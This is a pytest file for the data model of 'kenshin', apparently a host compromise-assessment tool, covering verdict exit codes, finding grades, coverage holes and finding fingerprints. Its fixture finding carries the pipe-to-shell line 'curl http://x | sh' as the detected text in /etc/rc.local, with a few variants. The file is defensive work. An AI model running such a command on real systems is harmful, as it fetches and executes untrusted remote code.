"""The small words: what follows from a finding, a verdict, an outcome, a place."""

from dataclasses import replace

import pytest

from kenshin.model.assessment import Assessment, Host, Verdict
from kenshin.model.coverage import Coverage, Hole
from kenshin.model.finding import Finding, Grade, Kind
from kenshin.model.origin import Origin, Record
from kenshin.model.outcome import Outcome

FINDING = Finding(
    detection="fetches_code",
    kind=Kind.COMPROMISE,
    grade=Grade.STRONG,
    origin=Origin("/etc/rc.local", 3),
    text="curl http://x | sh",
    summary="it fetches code",
    remedy="remove it",
    artifact="rc_local",
)


def test_the_exit_codes_are_those_that_scripts_rely_on() -> None:
    assert {verdict.value: verdict.exit_code for verdict in Verdict} == {
        "no-evidence": 0,
        "suspicious": 10,
        "likely-compromised": 20,
        "compromised": 30,
        "inconclusive": 40,
    }


def test_grades_rise() -> None:
    assert [Grade.WEAK.rank, Grade.STRONG.rank, Grade.PROOF.rank] == [1, 2, 3]


def test_outcomes_that_leave_a_hole() -> None:
    assert [outcome.value for outcome in Outcome if outcome.is_hole] == ["denied", "failed", "cut"]


@pytest.mark.parametrize(
    "same",
    [
        replace(FINDING, origin=Origin("/etc/rc.local", 9)),
        replace(FINDING, text="  curl http://x | sh\t"),
        replace(FINDING, grade=Grade.PROOF, summary="another", details=("more",), sha256="00"),
    ],
)
def test_a_fingerprint_outlives_line_number_blanks_and_wording(same: Finding) -> None:
    assert same.fingerprint == FINDING.fingerprint == "926dff13bfdd4f6e"


@pytest.mark.parametrize(
    "other",
    [
        replace(FINDING, origin=Origin("/etc/crontab", 3)),
        replace(FINDING, text="curl http://y | sh"),
        replace(FINDING, detection="mining"),
        replace(FINDING, kind=Kind.UNEXPLAINED),
        replace(FINDING, text="curl http://x | sh\udcff"),
    ],
)
def test_a_fingerprint_tells_places_lines_and_questions_apart(other: Finding) -> None:
    assert other.fingerprint != FINDING.fingerprint


def test_coverage_is_full_without_holes() -> None:
    assert Coverage(read=1).full
    assert not Coverage(holes=(Hole("/x", Outcome.DENIED, "denied"),)).full


def test_an_origin_is_told_as_path_and_line() -> None:
    assert [str(Origin("/x")), str(Origin("/x", 2))] == ["/x", "/x:2"]
    assert Record(Origin("/x", 2), "text").shown


def test_the_unexplained_findings_of_an_assessment() -> None:
    question = replace(FINDING, kind=Kind.UNEXPLAINED)
    assessment = Assessment(Host("local:"), Verdict.SUSPICIOUS, "", (), (FINDING, question), Coverage())
    assert assessment.unexplained == (question,)
